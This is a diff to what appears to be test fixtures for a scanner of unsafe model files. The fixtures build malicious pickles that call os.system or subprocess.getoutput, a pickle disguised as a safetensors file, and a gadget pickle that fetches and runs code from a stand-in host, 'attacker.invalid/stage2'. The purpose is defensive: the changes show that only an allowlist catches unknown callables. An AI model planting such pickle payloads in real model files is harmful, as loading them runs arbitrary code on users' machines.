@@ -24,8 +24,8 @@ def hostile_pickle() -> bytes:
 
 
 def gadget_pickle() -> bytes:
-    """A real gadget no denylist names (it runs a Python script): only an allowlist catches it."""
-    return _global_call("sklearn.utils._testing", "assert_run_python_script_without_output", "print('pwned')")
+    """A callable that no denylist can know (a third-party helper): only an allowlist catches it."""
+    return _global_call("mlhelpers.remote", "fetch_and_run", "https://attacker.invalid/stage2")
 
 
 def hostile_torch_checkpoint(benign_state: bytes) -> bytes:
@@ -64,7 +64,7 @@ def make_project(root: Path) -> dict[str, str]:
         "embeddings.npy": "benign NumPy array",
         "README.md": "model card",
         "evil.pkl": "pickle calling os.system",
-        "gadget.pkl": "pickle calling an sklearn test helper that runs a script (on no denylist)",
+        "gadget.pkl": "pickle calling an unknown third-party function (on no denylist)",
         "weights.safetensors": "a pickle disguised as safetensors",
         "checkpoint.pt": "PyTorch zip whose data.pkl calls subprocess.getoutput",
     }
